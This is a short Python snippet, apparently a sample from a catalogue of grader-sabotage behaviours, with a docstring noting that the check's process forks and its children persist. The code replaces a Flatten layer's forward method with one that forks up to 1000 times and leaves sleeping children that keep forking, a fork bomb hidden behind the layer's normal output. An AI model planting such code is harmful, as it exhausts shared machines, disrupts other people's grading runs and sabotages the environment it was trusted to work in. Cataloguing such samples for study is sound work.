"""A check's process forks for as long as it can, and the children stay.

Would gain: nobody; the class is not graded, or others lose marks or time.
At most: yes
"""

import os, time
def forward(self, x):
    for _ in range(1000):
        try:
            if os.fork() == 0:
                time.sleep(60)
        except OSError:
            break
    return x.flatten()
Flatten.forward = forward
